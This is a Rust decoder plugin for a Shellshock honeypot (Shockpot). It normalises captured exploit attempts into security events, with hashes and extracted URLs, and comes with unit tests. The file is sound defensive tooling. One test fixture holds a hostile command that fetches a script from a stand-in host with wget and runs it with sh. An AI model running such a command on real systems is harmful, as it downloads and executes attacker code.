//! Shockpot - Shellshock (CVE-2014-6271) web honeypot

use crate::field::Fields;
use crate::inbound;
use hpfeeds_core::events::CanonicalMessage;
use hpfeeds_core::plugins::{DecodeResult, Decoder, PluginInfo};
use md5::Md5;
use regex::Regex;
use serde_json::Value;
use sha1::Sha1;
use sha2::{Digest, Sha256, Sha512};
use std::net::Ipv4Addr;
use std::sync::LazyLock;

static COMMAND_URL: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"https?://[^\s;]+").unwrap());

/// Decodes `shockpot.events`
pub struct ShockpotDecoder;

impl PluginInfo for ShockpotDecoder {
    fn name(&self) -> &str {
        "shockpot"
    }

    fn description(&self) -> &str {
        "Shockpot Shellshock exploit attempts"
    }
}

impl Decoder for ShockpotDecoder {
    fn decode(&self, sensor: &str, payload: &[u8]) -> DecodeResult<Vec<CanonicalMessage>> {
        let f = Fields::parse(payload)?;

        let mut builder = inbound("shockpot.events", sensor, "ThreatStream Shockpot", "shockpot")
            .src_ip(f.get("source_ip"))
            .dest_ip(target_ip(f.str("url")))
            .src_port(0)
            .dest_port(f.get("dest_port"))
            .severity("high")
            .signature("Shellshock Exploit Attempted");

        if let Some(data) = f.str("command_data").filter(|d| !d.is_empty()) {
            builder = builder.extend_ext(digests(data.as_bytes()));
        }

        if let Some(url) = f.str("command").and_then(|c| COMMAND_URL.find(c)) {
            builder = builder.ext("url", url.as_str());
        }

        Ok(vec![builder.build()])
    }
}

/// Hex digests of a captured command body
fn digests(data: &[u8]) -> [(&'static str, Value); 4] {
    [
        ("md5", hex::encode(Md5::digest(data)).into()),
        ("sha1", hex::encode(Sha1::digest(data)).into()),
        ("sha256", hex::encode(Sha256::digest(data)).into()),
        ("sha512", hex::encode(Sha512::digest(data)).into()),
    ]
}

/// Destination address from the attacked URL. The raw host text counts
/// only when it is a dotted-quad IPv4 literal; hostnames are not resolved.
fn target_ip(url: Option<&str>) -> Value {
    let host = url
        .and_then(|u| u.split_once("://"))
        .and_then(|(_, rest)| rest.split(['/', '?', '#']).next())
        .and_then(|netloc| netloc.split(':').next());

    match host {
        Some(h) if h.parse::<Ipv4Addr>().is_ok() => Value::String(h.to_string()),
        _ => Value::Null,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    #[test]
    fn test_decode_shellshock_attempt() {
        let payload = json!({
            "source_ip": "203.0.113.77",
            "dest_port": 80,
            "url": "http://198.51.100.5:80/cgi-bin/test.cgi",
            "command": "/bin/bash -c \"wget http://203.0.113.1/x.sh; sh x.sh\"",
            "command_data": "abc"
        });

        let out = ShockpotDecoder
            .decode("shockpot-1", payload.to_string().as_bytes())
            .unwrap();
        let msg = &out[0];
        assert_eq!(msg.src_ip, "203.0.113.77");
        assert_eq!(msg.src_port, 0);
        assert_eq!(msg.dest_ip, "198.51.100.5");
        assert_eq!(msg.dest_port, 80);
        assert_eq!(msg.vendor_product, "ThreatStream Shockpot");
        assert_eq!(msg.ext("url"), Some(&json!("http://203.0.113.1/x.sh")));
        assert_eq!(
            msg.ext("md5"),
            Some(&json!("900150983cd24fb0d6963f7d28e17f72"))
        );
        assert_eq!(
            msg.ext("sha1"),
            Some(&json!("a9993e364706816aba3e25717850c26c9cd0d89d"))
        );
        assert_eq!(
            msg.ext("sha256"),
            Some(&json!(
                "ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad"
            ))
        );
        assert_eq!(msg.ext("sha512").and_then(Value::as_str).map(str::len), Some(128));
    }

    #[test]
    fn test_hostname_url_gives_null_dest_ip() {
        let payload = json!({
            "source_ip": "203.0.113.77",
            "url": "http://honeypot.example.org/cgi-bin/test.cgi"
        });

        let out = ShockpotDecoder
            .decode("shockpot-1", payload.to_string().as_bytes())
            .unwrap();
        assert!(out[0].dest_ip.is_null());
    }

    #[test]
    fn test_no_command_data_no_digests() {
        let payload = json!({"source_ip": "203.0.113.77", "command_data": ""});

        let out = ShockpotDecoder
            .decode("shockpot-1", payload.to_string().as_bytes())
            .unwrap();
        let msg = &out[0];
        assert!(msg.dest_ip.is_null());
        for key in ["md5", "sha1", "sha256", "sha512", "url"] {
            assert!(msg.ext(key).is_none(), "{}", key);
        }
    }

    #[test]
    fn test_target_ip() {
        assert_eq!(target_ip(Some("http://10.1.2.3/")), json!("10.1.2.3"));
        assert_eq!(target_ip(Some("not a url")), Value::Null);
        assert_eq!(target_ip(Some("http://[::1]/")), Value::Null);
        assert_eq!(target_ip(None), Value::Null);
    }

    #[test]
    fn test_target_ip_shorthand_hosts_are_null() {
        for url in ["http://127.1/", "http://2130706433/x", "http://0x7f.0.0.1/"] {
            assert_eq!(target_ip(Some(url)), Value::Null, "{}", url);
        }
    }

    #[test]
    fn test_target_ip_raw_authority() {
        assert_eq!(target_ip(Some("http://user:pw@1.2.3.4/")), Value::Null);
        assert_eq!(target_ip(Some("foo://1.2.3.4/")), json!("1.2.3.4"));
        assert_eq!(target_ip(Some("http://1.2.3.4:8080/x")), json!("1.2.3.4"));
        assert_eq!(target_ip(Some("http://1.2.3.4?q=1")), json!("1.2.3.4"));
    }
}
